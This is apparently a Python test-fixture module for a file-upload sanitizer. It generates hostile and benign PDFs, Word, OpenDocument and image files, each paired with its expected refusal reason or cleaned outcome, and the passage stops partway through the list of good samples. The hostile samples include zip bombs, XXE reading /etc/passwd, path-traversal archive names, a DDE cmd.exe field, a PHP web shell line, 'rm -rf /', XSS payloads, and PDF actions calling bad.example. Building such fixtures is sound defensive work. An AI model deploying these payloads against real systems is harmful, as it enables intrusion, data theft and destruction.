"""Files for tests, made by code: hostile ones and good ones. No binary is kept in the repository.

Each sample says what must happen to it: refused for a reason, or kept and how it looks then.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any, NamedTuple

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import Image, ImageDraw

from marketplace.core.files.sniffing import EICAR


class Sample(NamedTuple):
    """A file to send, and what is to become of it."""

    label: str
    name: str
    make: Callable[[], bytes]
    expect: str
    """Reason of the refusal ("kind", "damaged" …), or the media type it is kept as."""
    gone: tuple[bytes, ...] = ()
    """What must not be found in the kept bytes, packed or unpacked."""


# Pictures


def picture(width: int = 60, height: int = 40, mode: str = "RGB") -> Image.Image:
    """A small picture with something on it."""
    made = Image.new("RGB", (width, height), (200, 220, 240))
    ImageDraw.Draw(made).rectangle((2, 2, width // 2, height // 2), fill=(180, 30, 60))
    return made.convert(mode)


def saved(made: Image.Image, kind: str, **options: Any) -> bytes:
    """A picture as a file."""
    out = io.BytesIO()
    made.save(out, kind, **options)
    return out.getvalue()


def exif_with_place() -> Image.Exif:
    """What a phone writes: place, device, time, the way it was held."""
    exif = Image.Exif()
    exif[0x010F] = "ExampleCamera"
    exif[0x0112] = 6
    exif[0x0132] = "2027:03:01 10:00:00"
    place = exif.get_ifd(0x8825)
    place[1], place[2], place[3], place[4] = "N", (53.0, 45.0, 30.0), "W", (2.0, 42.0, 10.0)
    return exif


def phone_photo() -> bytes:
    """A JPEG with place, comment and colour profile."""
    return saved(picture(), "JPEG", exif=exif_with_place(), comment=b"Taken at home", icc_profile=b"icc" * 50)


def two_pictures_in_one() -> bytes:
    """How some phones save a photograph (MPO)."""
    return saved(picture(), "MPO", save_all=True, append_images=[picture(30, 20)])


def moving(kind: str) -> bytes:
    """A picture of three frames."""
    frames = [Image.new("RGB", (40, 30), (shade, 0, 0)) for shade in (0, 100, 200)]
    return saved(frames[0], kind, save_all=True, append_images=frames[1:], duration=100)


def png_chunk(kind: bytes, body: bytes) -> bytes:
    """One chunk of a PNG file."""
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_header(width: int, height: int) -> bytes:
    """A PNG file that says it is large and holds next to nothing."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(bytes(1000))
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", head) + png_chunk(b"IDAT", body) + png_chunk(b"IEND", b"")


def png_text_bomb() -> bytes:
    """A PNG file with compressed comments that unpack to 400 MB."""
    packed = b"Comment\0\0" + zlib.compress(bytes(100_000_000))
    plain = saved(picture(), "PNG")
    return plain[:33] + png_chunk(b"zTXt", packed) * 4 + plain[33:]


def png_with_notes() -> bytes:
    """A PNG file with texts."""
    from PIL.PngImagePlugin import PngInfo

    notes = PngInfo()
    notes.add_text("Author", "Somebody Real")
    notes.add_itxt("XML:com.adobe.xmp", "<x>Somebody Real</x>")
    return saved(picture(), "PNG", pnginfo=notes)


# Zip files


def zipped(parts: dict[str, bytes], **options: Any) -> bytes:
    """A zip file of some parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            entry = zipfile.ZipInfo(name, date_time=(2027, 3, 1, 10, 0, 0))
            entry.compress_type = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            entry.external_attr = options.get("attributes", {}).get(name, 0)
            archive.writestr(entry, part)
    return out.getvalue()


def deflated_zeros(megabytes: int) -> bytes:
    """A deflate stream of so many megabytes of zeros, made of one block again and again."""
    engine = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = engine.compress(bytes(1_000_000)) + engine.flush(zlib.Z_FULL_FLUSH)
    again = engine.compress(bytes(1_000_000)) + engine.flush(zlib.Z_FULL_FLUSH)
    return first + again * (megabytes - 1) + engine.flush()


def raw_zip(entries: list[tuple[bytes, bytes, int, int]]) -> bytes:
    """A zip file written by hand: (name, packed bytes, size it claims, flags)."""
    body, table = b"", b""
    for name, packed, size, flags in entries:
        is_large = size >= 0xFFFFFFFF
        extra = struct.pack("<HHQQ", 1, 16, size, len(packed)) if is_large else b""
        sizes = (0xFFFFFFFF, 0xFFFFFFFF) if is_large else (len(packed), size)
        common = struct.pack("<HHHHHIIIHH", 45, flags, 8, 0, 0x5000, 0, *sizes, len(name), len(extra))
        table += b"PK\x01\x02" + struct.pack("<H", 45) + common
        table += struct.pack("<HHHII", 0, 0, 0, 0, len(body)) + name + extra
        body += b"PK\x03\x04" + common + name + extra + packed
    end = struct.pack("<HHHHIIH", 0, 0, len(entries), len(entries), len(table), len(body), 0)
    return body + table + b"PK\x05\x06" + end


# Word and OpenDocument

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>'
    '<Default Extension="jpg" ContentType="image/jpeg"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/>{more}</Types>'
)
RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def relation(number: int, kind: str, target: str, mode: str = "") -> str:
    """One relation of a Word part."""
    extra = f' TargetMode="{mode}"' if mode else ""
    return f'<Relationship Id="rId{number}" Type="{kind}" Target="{target}"{extra}/>'


def document_xml(inside: str = "", before: str = "") -> bytes:
    """The main part of a Word document."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{before}<w:document xmlns:w="{WORD}" xmlns:r="{OFFICE}">'
        f"<w:body><w:p><w:r><w:t>Certificate of insurance</w:t></w:r></w:p>{inside}</w:body></w:document>"
    ).encode()


def docx_parts(*relations: str, types: str = "", document: bytes | None = None) -> dict[str, bytes]:
    """The parts of a Word document by Somebody Real."""
    core = (
        '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>Somebody Real</dc:creator></cp:coreProperties>'
    )
    more = (
        '<Override PartName="/docProps/core.xml" '
        'ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
    )
    return {
        "[Content_Types].xml": CONTENT_TYPES.format(more=more + types).encode(),
        "_rels/.rels": RELATIONS.format(
            relation(1, f"{OFFICE}/officeDocument", "word/document.xml")
            + relation(2, f"{PACKAGE}/metadata/core-properties", "docProps/core.xml")
        ).encode(),
        "word/document.xml": document or document_xml(),
        "word/_rels/document.xml.rels": RELATIONS.format("".join(relations)).encode(),
        "docProps/core.xml": core.encode(),
    }


def docx(
    *relations: str, extra: dict[str, bytes] | None = None, types: str = "", document: bytes | None = None
) -> bytes:
    """A Word document."""
    return zipped({**docx_parts(*relations, types=types, document=document), **(extra or {})})


def docx_with_template(target: str) -> bytes:
    """A Word document whose settings name a template elsewhere."""
    settings = (
        f'<w:settings xmlns:w="{WORD}" xmlns:r="{OFFICE}"><w:zoom w:percent="100"/>'
        '<w:attachedTemplate r:id="rId1"/><w:compat a=">"/></w:settings>'
    )
    extra = {
        "word/settings.xml": settings.encode(),
        "word/_rels/settings.xml.rels": RELATIONS.format(
            relation(1, f"{OFFICE}/attachedTemplate", target, "External")
        ).encode(),
    }
    return docx(relation(1, f"{OFFICE}/settings", "settings.xml"), extra=extra)


def docx_with_list() -> bytes:
    """A letter that is filled from a list of addresses, by a command to a database."""
    settings = (
        f'<w:settings xmlns:w="{WORD}" xmlns:r="{OFFICE}"><w:mailMerge><w:connectString w:val="DSN=secret"/>'
        '<w:query w:val="SELECT bad"/><w:dataSource r:id="rId1"/></w:mailMerge><w:zoom w:percent="100"/></w:settings>'
    )
    extra = {
        "word/settings.xml": settings.encode(),
        "word/_rels/settings.xml.rels": RELATIONS.format(
            relation(1, f"{OFFICE}/mailMergeSource", "file:///C:/people.xlsx", "External")
        ).encode(),
    }
    return docx(relation(1, f"{OFFICE}/settings", "settings.xml"), extra=extra)


def docx_of_much() -> bytes:
    """A Word document as Word writes it: pictures, a link, a thumbnail, own properties, people."""
    extra = {
        "word/media/image1.jpg": phone_photo(),
        "word/media/image2.png": png_with_notes(),
        "docProps/thumbnail.jpeg": phone_photo(),
        "docProps/custom.xml": b"<Properties><property>Somebody Real</property></Properties>",
        "docProps/app.xml": b"<Properties><Company>Somebody Real</Company></Properties>",
        "word/people.xml": b"<people><person>Somebody Real</person></people>",
    }
    types = (
        '<Override PartName="/docProps/app.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.extended-properties+xml"/>'
    )
    relations = (
        relation(1, f"{OFFICE}/image", "media/image1.jpg"),
        relation(2, f"{OFFICE}/image", "media/image2.png"),
        relation(3, f"{OFFICE}/hyperlink", "https://www.example.org/?a=1&amp;b=2", "External"),
        relation(4, f"{OFFICE}/hyperlink", "file:///C:/private/notes.doc", "External"),
        relation(5, "http://schemas.microsoft.com/office/2011/relationships/people", "people.xml"),
    )
    return docx(*relations, extra=extra, types=types)


ODF = "urn:oasis:names:tc:opendocument:xmlns"


def odt_parts(inside: str = "", before: str = "") -> dict[str, bytes]:
    """The parts of an OpenDocument text by Somebody Real."""
    names = " ".join(
        f'xmlns:{name}="{ODF}:{name}:1.0"' for name in ("office", "text", "draw", "script", "table", "config", "meta")
    )
    names += ' xmlns:xlink="http://www.w3.org/1999/xlink"'
    return {
        "mimetype": b"application/vnd.oasis.opendocument.text",
        "content.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?>{before}<office:document-content {names}><office:scripts/>'
            f"<office:body><office:text><text:p>Certificate</text:p>{inside}</office:text></office:body>"
            "</office:document-content>"
        ).encode(),
        "meta.xml": f"<office:document-meta {names}><meta:initial-creator>Somebody Real</meta:initial-creator>"
        "</office:document-meta>".encode(),
        "settings.xml": f"<office:document-settings {names}><config:config-item config:name='PrinterName'>"
        "Printer of Somebody Real</config:config-item><config:config-item config:name='A'>b</config:config-item>"
        "</office:document-settings>".encode(),
        "META-INF/manifest.xml": (
            f'<manifest:manifest xmlns:manifest="{ODF}:manifest:1.0">'
            '<manifest:file-entry manifest:full-path="/" '
            'manifest:media-type="application/vnd.oasis.opendocument.text"/>'
            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
            "</manifest:manifest>"
        ).encode(),
    }


def odt(inside: str = "", before: str = "", extra: dict[str, bytes] | None = None) -> bytes:
    """An OpenDocument text."""
    return zipped({**odt_parts(inside, before), **(extra or {})})


# PDF


def pdf(change: Callable[[Pdf], None] | None = None, pages: int = 1, **options: Any) -> bytes:
    """A PDF by Somebody Real with a line of text on each page."""
    out = io.BytesIO()
    with pikepdf.new() as made:
        for number in range(pages):
            page = made.add_blank_page()
            page.obj.Contents = Stream(made, f"BT /F1 12 Tf 72 700 Td (Certificate page {number}) Tj ET".encode())
            font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
            # A page may call its font like a key that acts.
            page.obj.Resources = Dictionary(Font=Dictionary({"/F1": font, "/JS": font, "/AA": font, "/EF": font}))
        made.docinfo["/Author"] = "Somebody Real"
        if change is not None:
            change(made)
        made.save(out, **options)
    return out.getvalue()


def action(kind: str, **values: Any) -> Dictionary:
    """An action of a PDF."""
    return Dictionary(S=Name("/" + kind), **values)


def link(target: Dictionary) -> Dictionary:
    """A place on a page that acts when it is clicked."""
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 100, 100], A=target)


def annotated(*annotations: Any) -> bytes:
    """A PDF with annotations on its first page."""

    def change(made: Pdf) -> None:
        made.pages[0].obj.Annots = Array([made.make_indirect(item) for item in annotations])

    return pdf(change)


def pdf_with_script() -> bytes:
    """A PDF that runs a script when it is opened, and another from its names."""

    def change(made: Pdf) -> None:
        script = action("JavaScript", JS=String("app.launchURL('http://bad.example')"))
        made.Root.OpenAction = script
        made.Root.Names = Dictionary(JavaScript=Dictionary(Names=[String("go"), made.make_indirect(script)]))
        made.pages[0].obj.AA = Dictionary(O=script)

    return pdf(change)


def pdf_with_program() -> bytes:
    """A PDF with a program inside."""

    def change(made: Pdf) -> None:
        made.attachments["invoice.exe"] = b"MZ" + b"program bytes " * 50

    return pdf(change)


def pdf_with_form() -> bytes:
    """A PDF with an XFA form that sends itself."""

    def change(made: Pdf) -> None:
        made.Root.AcroForm = Dictionary(Fields=[], XFA=Stream(made, b"<xdp>http://bad.example</xdp>"))

    return pdf(change)


def pdf_with_photo() -> bytes:
    """A scan as PDF: a photograph with its place inside."""

    def change(made: Pdf) -> None:
        photo = Stream(made, phone_photo())
        photo.stream_dict = Dictionary(
            Type=Name.XObject,
            Subtype=Name.Image,
            Width=60,
            Height=40,
            ColorSpace=Name.DeviceRGB,
            BitsPerComponent=8,
            Filter=Name.DCTDecode,
        )
        made.pages[0].obj.Resources.XObject = Dictionary(Im0=photo)

    return pdf(change)


def pdf_with_virus() -> bytes:
    """A PDF with the test virus in a packed stream."""

    def change(made: Pdf) -> None:
        made.pages[0].obj.Contents = Stream(made, zlib.compress(b"%" + EICAR + b"\n"), Filter=Name.FlateDecode)

    return pdf(change)


def pdf_of_objects(packed: bytes, count: int, extra: str = "") -> bytes:
    """A PDF whose objects are said to stand in one packed stream."""
    head = f"1 0 obj\n<</Type/ObjStm/N {count}/First 4/Filter/FlateDecode/Length {len(packed)}{extra}>>\nstream\n"
    body = b"%PDF-1.5\n" + head.encode() + packed + b"\nendstream\nendobj\n"
    at = len(body)
    rows = struct.pack(">BIB", 0, 0, 255) + struct.pack(">BIB", 1, 9, 0) + struct.pack(">BIB", 2, 1, 0)
    rows += struct.pack(">BIB", 1, at, 0)
    table = zlib.compress(rows)
    body += (
        f"3 0 obj\n<</Type/XRef/Size 4/W[1 4 1]/Root 2 0 R/Filter/FlateDecode/Length {len(table)}>>\nstream\n".encode()
        + table
        + b"\nendstream\nendobj\n"
    )
    return body + f"startxref\n{at}\n%%EOF\n".encode()


def zlib_zeros(megabytes: int) -> bytes:
    """A zlib stream of so many megabytes; its checksum is wrong, which readers notice at the end if at all."""
    return b"x\x9c" + deflated_zeros(megabytes) + bytes(4)


def nested_pdf() -> bytes:
    """A PDF whose page tree goes round in a circle."""

    def change(made: Pdf) -> None:
        made.Root.Pages.Kids.append(made.Root.Pages)
        made.Root.Pages.Count = 2

    return pdf(change)


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
MACRO_TYPE = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
PDF_TYPE, JPEG, PNG, WEBP = "application/pdf", "image/jpeg", "image/png", "image/webp"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
ODT = "application/vnd.oasis.opendocument.text"
TEXT = "text/plain"
REAL = b"Somebody Real"

HOSTILE: list[Sample] = [
    Sample("zero bytes", "empty.pdf", lambda: b"", "empty"),
    Sample("eleven megabytes", "large.pdf", lambda: b"%PDF-1.7" + bytes(11_000_000), "size"),
    Sample("the test virus", "notes.txt", lambda: EICAR, "infected"),
    Sample("the test virus after a text", "notes.txt", lambda: b"Dear council,\n" + EICAR, "infected"),
    Sample(
        "the test virus in a Word document", "a.docx", lambda: docx(extra={"word/x.xml": b"<a>" + EICAR}), "infected"
    ),
    Sample("the test virus packed in a PDF", "a.pdf", pdf_with_virus, "infected"),
    Sample(
        "the test virus in a comment of a JPEG", "a.jpg", lambda: saved(picture(), "JPEG", comment=EICAR), "infected"
    ),
    Sample(
        "a zip bomb of 10 GB",
        "bomb.docx",
        lambda: raw_zip([(b"word/document.xml", deflated_zeros(10_000), 10_000_000_000, 0)]),
        "too-complex",
    ),
    Sample(
        "a zip bomb that says it is small",
        "bomb.docx",
        lambda: raw_zip([(b"word/document.xml", deflated_zeros(1_000), 1_000, 0)]),
        "damaged",
    ),
    Sample(
        "a zip bomb in many parts",
        "bomb.docx",
        lambda: raw_zip([(b"word/%d.xml" % n, deflated_zeros(60), 60_000_000, 0) for n in range(150)]),
        "too-complex",
    ),
    Sample(
        "a part that packs too well", "bomb.docx", lambda: docx(extra={"word/a.xml": bytes(50_000_000)}), "too-complex"
    ),
    Sample(
        "two thousand parts",
        "many.docx",
        lambda: docx(extra={f"word/{n}.xml": b"<a/>" for n in range(2_000)}),
        "too-complex",
    ),
    Sample("a zip in a Word document", "a.docx", lambda: docx(extra={"word/a.xml": zipped({"b": b"c"})}), "embedded"),
    Sample("a zip in a zip", "a.zip", lambda: zipped({"inner.zip": zipped({"b": b"c"})}), "embedded"),
    Sample("an archive", "a.docx", lambda: zipped({"letter.txt": b"hello"}), "kind"),
    Sample("an archive of nothing", "a.docx", lambda: zipped({}), "kind"),
    Sample("names that climb", "a.docx", lambda: docx(extra={"../../etc/cron.d/evil": b"x"}), "damaged"),
    Sample("names that start at the root", "a.docx", lambda: docx(extra={"/etc/passwd": b"x"}), "damaged"),
    Sample("names with a drive", "a.docx", lambda: docx(extra={"C:\\Windows\\evil.xml": b"<a/>"}), "damaged"),
    Sample(
        "a link to a file",
        "a.docx",
        lambda: zipped({**docx_parts(), "word/l.xml": b"/etc/passwd"}, attributes={"word/l.xml": 0o120777 << 16}),
        "damaged",
    ),
    Sample("two parts of one name", "a.docx", lambda: docx(extra={"WORD/document.xml": document_xml()}), "damaged"),
    Sample("a locked part", "a.docx", lambda: raw_zip([(b"word/document.xml", b"x", 1, 1)]), "password"),
    Sample(
        "a Word document with macros",
        "a.docm",
        lambda: docx(extra={"word/vbaProject.bin": b"x"}, types=MACRO_TYPE),
        "macros",
    ),
    Sample(
        "macros by relation alone",
        "a.docx",
        lambda: docx(
            relation(9, "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "x.xml"),
            extra={"word/x.xml": b"<a/>"},
        ),
        "macros",
    ),
    Sample(
        "an object of another program",
        "a.docx",
        lambda: docx(relation(9, f"{OFFICE}/oleObject", "embeddings/o.bin"), extra={"word/embeddings/o.bin": b"x"}),
        "embedded",
    ),
    Sample("an old Office file in a picture", "a.docx", lambda: docx(extra={"word/media/image1.png": OLE}), "embedded"),
    Sample("ActiveX", "a.docx", lambda: docx(extra={"word/activeX/activeX1.xml": b"<a/>"}), "embedded"),
    Sample(
        "a picture from elsewhere",
        "a.docx",
        lambda: docx(relation(9, f"{OFFICE}/image", "http://bad.example/p.png", "External")),
        "external",
    ),
    Sample(
        "a page inside a document",
        "a.docx",
        lambda: docx(relation(9, f"{OFFICE}/aFChunk", "page.htm"), extra={"word/page.htm": b"<html>"}),
        "embedded",
    ),
    Sample(
        "a field that runs a program",
        "a.docx",
        lambda: docx(
            document=document_xml(
                "<w:r><w:instrText>DD</w:instrText></w:r>"
                '<w:r><w:instrText>EAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r>'
            )
        ),
        "external",
    ),
    Sample(
        "XXE in a Word document",
        "a.docx",
        lambda: docx(document=document_xml("<w:p>&x;</w:p>", '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
        "entities",
    ),
    Sample(
        "a billion laughs",
        "a.docx",
        lambda: docx(
            document=document_xml("&b;", '<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>')
        ),
        "entities",
    ),
    Sample(
        "XML in UTF-16",
        "a.docx",
        lambda: docx(document=document_xml().decode().replace("UTF-8", "UTF-16").encode("utf-16")),
        "damaged",
    ),
    Sample(
        "XML of ten thousand levels", "a.docx", lambda: docx(document=b"<a>" * 10_000 + b"</a>" * 10_000), "too-complex"
    ),
    Sample("a drawing with a script in a document", "a.docx", lambda: docx(extra={"word/media/i.svg": SVG}), "macros"),
    Sample(
        "a spreadsheet",
        "a.docx",
        lambda: zipped(
            {
                "[Content_Types].xml": CONTENT_TYPES.format(more="")
                .replace("wordprocessingml.document", "spreadsheetml.sheet")
                .encode()
            }
        ),
        "kind",
    ),
    Sample("a Word document cut short", "a.docx", lambda: docx()[:-200], "damaged"),
    Sample(
        "macros in an OpenDocument text", "a.odt", lambda: odt(extra={"Basic/Standard/Module1.xml": b"<a/>"}), "macros"
    ),
    Sample(
        "an event in an OpenDocument text",
        "a.odt",
        lambda: odt('<script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:a.py"/>'),
        "macros",
    ),
    Sample(
        "a picture from elsewhere in ODT",
        "a.odt",
        lambda: odt('<draw:image xlink:href="http://bad.example/p.png"/>'),
        "external",
    ),
    Sample(
        "an object in an OpenDocument text", "a.odt", lambda: odt('<draw:object xlink:href="./Object 1"/>'), "embedded"
    ),
    Sample(
        "XXE in an OpenDocument text",
        "a.odt",
        lambda: odt("&x;", '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        "entities",
    ),
    Sample(
        "an OpenDocument spreadsheet",
        "a.odt",
        lambda: odt(extra={"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}),
        "kind",
    ),
    Sample(
        "a locked OpenDocument text",
        "a.odt",
        lambda: odt(extra={"META-INF/manifest.xml": f'<m xmlns="{ODF}:manifest:1.0"><encryption-data/></m>'.encode()}),
        "password",
    ),
    Sample("a drawing with a script", "logo.svg", lambda: SVG, "kind"),
    Sample(
        "a drawing called a picture",
        "logo.png",
        lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "kind",
    ),
    Sample("a web page", "page.html", lambda: b"<!DOCTYPE html><html><body>hello</body></html>", "kind"),
    Sample("a script in a text", "notes.txt", lambda: b"hello <img src=x onerror=alert(1)> there", "kind"),
    Sample("a web page in UTF-7", "page.txt", lambda: b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "kind"),
    Sample("a page in PHP", "notes.txt", lambda: b"<?php system($_GET['c']); ?>", "kind"),
    Sample("XML", "data.xml", lambda: b'<?xml version="1.0"?><a/>', "kind"),
    Sample("a shell script", "run.txt", lambda: b"#!/bin/sh\nrm -rf /\n", "kind"),
    Sample("a batch file", "run.txt", lambda: b"@echo off\r\ndel *.*\r\n", "kind"),
    Sample("a program called PDF", "invoice.pdf", lambda: b"MZ\x90\x00" + bytes(500), "kind"),
    Sample("a Linux program", "a.jpg", lambda: b"\x7fELF" + bytes(500), "kind"),
    Sample("RTF", "a.doc", lambda: b"{\\rtf1 hello {\\object\\objdata 0105}}", "kind"),
    Sample("an old Word document", "a.doc", lambda: OLE, "kind"),
    Sample("a RAR archive", "a.rar", lambda: b"Rar!\x1a\x07\x00" + bytes(50), "kind"),
    Sample("a gzip archive", "a.gz", lambda: b"\x1f\x8b\x08" + bytes(50), "kind"),
    Sample("a TIFF picture", "a.tif", lambda: saved(picture(), "TIFF"), "kind"),
    Sample("a HEIC picture", "a.heic", lambda: b"\x00\x00\x00\x18ftypheic" + bytes(50), "heic"),
    Sample("a film", "a.mp4", lambda: b"\x00\x00\x00\x18ftypisom" + bytes(50), "kind"),
    Sample("random bytes", "a.pdf", lambda: bytes(range(256)) * 20, "kind"),
    Sample("a text of control characters", "a.txt", lambda: b"a\x00b\x1b[2J", "kind"),
    Sample("a text of blanks", "a.txt", lambda: b" \n \n", "damaged"),
    Sample("900 megapixels in a header", "a.png", lambda: png_header(30_000, 30_000), "pixels"),
    Sample("49 megapixels in a header", "a.png", lambda: png_header(7_000, 7_000), "pixels"),
    Sample("a picture one pixel high", "a.png", lambda: png_header(1_000_000, 1), "pixels"),
    Sample("comments that unpack to 400 MB", "a.png", png_text_bomb, "damaged"),
    Sample("a PNG cut short", "a.png", lambda: saved(Image.effect_noise((200, 200), 90), "PNG")[:5_000], "damaged"),
    Sample("a JPEG cut short", "a.jpg", lambda: saved(picture(400, 300), "JPEG")[:1_500], "damaged"),
    Sample("a WebP cut short", "a.webp", lambda: saved(Image.effect_noise((200, 200), 90), "WEBP")[:3_000], "damaged"),
    Sample("a GIF and a script at once", "a.gif", lambda: b"GIF89a/*" + b"\0" * 6 + b"*/=1;alert(1)", "damaged"),
    Sample("a PDF cut short", "a.pdf", lambda: pdf(pages=3)[:900], "damaged"),
    Sample(
        "a PDF with a password", "a.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u")), "password"
    ),
    Sample("a PDF of 201 pages", "a.pdf", lambda: pdf(pages=201), "pages"),
    Sample("a PDF of no page", "a.pdf", lambda: pdf(pages=0), "damaged"),
    Sample("a PDF in name alone", "a.pdf", lambda: b"%PDF-1.7\nhello\n%%EOF", "damaged"),
    Sample("a bomb in the objects of a PDF", "a.pdf", lambda: pdf_of_objects(zlib_zeros(2_000), 1), "damaged"),
    Sample(
        "a million brackets in a PDF",
        "a.pdf",
        lambda: b"%PDF-1.4\n1 0 obj\n" + b"[" * 1_000_000 + b"\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF",
        "damaged",
    ),
    Sample("a page tree in a circle", "a.pdf", nested_pdf, "damaged"),
    Sample("a dynamic form", "a.pdf", lambda: pdf(lambda made: made.Root.__setitem__("/NeedsRendering", True)), "form"),
]
"""Refused, each with its reason."""

CLEANED: list[Sample] = [
    Sample("a PDF with scripts", "a.pdf", pdf_with_script, PDF_TYPE, (b"JavaScript", b"bad.example", REAL)),
    Sample(
        "a PDF that starts a program",
        "a.pdf",
        lambda: annotated(link(action("Launch", F=String("cmd.exe")))),
        PDF_TYPE,
        (b"Launch", b"cmd.exe"),
    ),
    Sample(
        "a PDF that sends a form",
        "a.pdf",
        lambda: annotated(link(action("SubmitForm", F=String("http://bad.example")))),
        PDF_TYPE,
        (b"bad.example",),
    ),
    Sample(
        "a PDF that opens another",
        "a.pdf",
        lambda: annotated(link(action("GoToR", F=String("\\\\bad.example\\a.pdf")))),
        PDF_TYPE,
        (b"bad.example",),
    ),
    Sample(
        "a PDF with a script for a link",
        "a.pdf",
        lambda: annotated(link(action("URI", URI=String("javascript:alert(1)")))),
        PDF_TYPE,
        (b"alert",),
    ),
    Sample(
        "a PDF with a film",
        "a.pdf",
        lambda: annotated(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.RichMedia,
                Rect=[0, 0, 1, 1],
                RichMediaContent=Dictionary(Bad=String("bad.swf")),
            )
        ),
        PDF_TYPE,
        (b"bad.swf", b"RichMedia"),
    ),
    Sample("a PDF with a program inside", "a.pdf", pdf_with_program, PDF_TYPE, (b"program bytes", b"invoice.exe")),
    Sample("a PDF with a form that acts", "a.pdf", pdf_with_form, PDF_TYPE, (b"bad.example", b"XFA")),
    Sample("a PDF behind a script", "a.pdf", lambda: b"<script>alert(1)</script>\n" + pdf(), PDF_TYPE, (b"alert",)),
    Sample(
        "a PDF before an archive",
        "a.pdf",
        lambda: pdf() + zipped({"evil.js": b"alert(1)"}) + b"\n%%EOF\n",
        PDF_TYPE,
        (b"evil.js", b"PK\x03\x04"),
    ),
    Sample("a GIF before a page", "a.gif", lambda: moving("GIF") + b"<script>alert(1)</script>", PNG, (b"alert",)),
    Sample(
        "a JPEG before an archive",
        "a.jpg",
        lambda: phone_photo() + zipped({"evil.js": b"alert(1)"}),
        JPEG,
        (b"evil.js", b"PK\x03\x04"),
    ),
    Sample(
        "a letter filled from a database", "a.docx", docx_with_list, DOCX, (b"DSN=secret", b"SELECT", b"people.xlsx")
    ),
    Sample(
        "a Word document with a template elsewhere",
        "a.docx",
        lambda: docx_with_template("http://bad.example/t.dotm"),
        DOCX,
        (b"bad.example", b"attachedTemplate", REAL),
    ),
]
"""Kept, without what they came with."""

GOOD: list[Sample] = [
    Sample("a PDF", "certificate.pdf", pdf, PDF_TYPE, (REAL,)),
    Sample("a PDF of 200 pages", "long.pdf", lambda: pdf(pages=200), PDF_TYPE, (REAL,)),
    Sample(
        "a PDF with a link",
        "a.pdf",
        lambda: annotated(link(action("URI", URI=String("https://www.example.org")))),
        PDF_TYPE,
    ),
    Sample(
        "a PDF locked against changes",
        "a.pdf",
        lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="")),
        PDF_TYPE,
    ),
    Sample("a PDF of a photograph", "scan.pdf", pdf_with_photo, PDF_TYPE, (b"ExampleCamera", b"Taken at home")),
    Sample(
        "a PDF with packed objects",
        "a.pdf",
        lambda: pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate),
        PDF_TYPE,
    ),
    Sample("a PDF for the web", "a.pdf", lambda: pdf(pages=3, linearize=True), PDF_TYPE),
    Sample("a PDF with a wrong table", "a.pdf", lambda: pdf().replace(b"startxref\n", b"startxref\n1"), PDF_TYPE),
    Sample(
        "a photograph with its place",
        "IMG_0001.JPG",
        phone_photo,
        JPEG,
        (b"ExampleCamera", b"Taken at home", b"Exif", b"icc"),
    ),
    Sample("a photograph of two pictures", "a.jpg", two_pictures_in_one, JPEG, (b"MPF",)),
    Sample("a grey JPEG", "a.jpeg", lambda: saved(picture(mode="L"), "JPEG"), JPEG),
    Sample("a JPEG for print", "a.jpg", lambda: saved(picture(mode="CMYK"), "JPEG"), JPEG),
    Sample("a JPEG in steps", "a.jpg", lambda: saved(picture(), "JPEG", progressive=True), JPEG),
    Sample("a PNG", "a.png", lambda: saved(picture(), "PNG"), PNG),
    Sample("a PNG with notes", "a.png", png_with_notes, PNG, (REAL,)),
    Sample("a PNG one sees through", "a.png", lambda: saved(picture(mode="RGBA"), "PNG"), PNG),
